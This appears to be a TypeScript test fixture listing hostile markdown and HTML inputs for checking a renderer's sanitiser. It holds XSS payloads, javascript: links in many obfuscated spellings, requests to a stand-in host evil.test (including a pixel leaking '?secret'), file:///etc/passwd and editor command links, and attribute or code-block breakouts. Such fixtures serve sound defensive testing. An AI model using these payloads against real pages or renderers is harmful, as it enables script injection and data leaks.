/**
 * Texts that try to be more than read. They leave `hacked` behind where they ran, and ask hosts that must not be asked: elements that run, links that
 * run and all the ways to write their scheme, what is fetched without a click, and ways out of attributes and elements.
 */
const run = 'globalThis.hacked=1';

export const hostile: readonly string[] = [
  // Elements that run.
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<details open ontoggle="${run}">x</details>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<a href="javascript:${run}">x</a>`,
  `<style>@import 'https://evil.test/a.css';</style>`,
  `<base href="https://evil.test/"><link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
  `<form action="https://evil.test"><button>x</button></form>`,
  `<object data="https://evil.test"></object><embed src="https://evil.test">`,
  // Links that run, with all the ways to write the scheme.
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&#115;cript:${run})`,
  `[x](java\\script:${run})`,
  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${run})`,
  `[x](<java\tscript:${run}>)`,
  `[x](\u0001javascript:${run})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](file:///etc/passwd)`,
  `[x](vscode://extension/run)`,
  `[x](command:workbench.action.terminal.new)`,
  `[x](vscode-webview://x) [y](blob:https://x/1) [z](about:blank)`,
  `<javascript:${run}> <command:x> <data:text/html,x>`,
  `[x]\n\n[x]: javascript:${run}`,
  `[x](//evil.test/a) [y](\\\\evil.test\\share) [z](/etc/passwd)`,
  // What asks for something without a click.
  `![x](https://evil.test/pixel.png?secret)`,
  `![x](//evil.test/p.png) ![y](file:///a.png) ![z](http://127.0.0.1/a.png)`,
  `![x][i]\n\n[i]: https://evil.test/ref.png`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x](data:text/html;base64,PHNjcmlwdD4=)`,
  `![x" onerror="${run}](data:image/png;base64,AA== "t\\" onload=\\"${run}")`,
  // Breaking out of attributes and elements.
  `[x](https://x.y/"onmouseover="${run})`,
  `[x](https://x.y/ '"><script>${run}</script>')`,
  '```"><script>globalThis.hacked=1</script>\ncode\n```',
  '```js onmouseover=globalThis.hacked=1\n</code></pre><script>globalThis.hacked=1</script>\n```',
  '`</code><script>globalThis.hacked=1</script>`',
  '| <img src=x onerror=globalThis.hacked=1> |\n|---|\n| [x](javascript:1) |',
  '[__proto__]: javascript:1\n[constructor] [__proto__] [toString]',
  '1. <b onclick=globalThis.hacked=1>x</b>\n\n# <svg/onload=globalThis.hacked=1>',
  '<!--><script>globalThis.hacked=1</script>--> <![CDATA[<script>]]> <?php ?>',
];
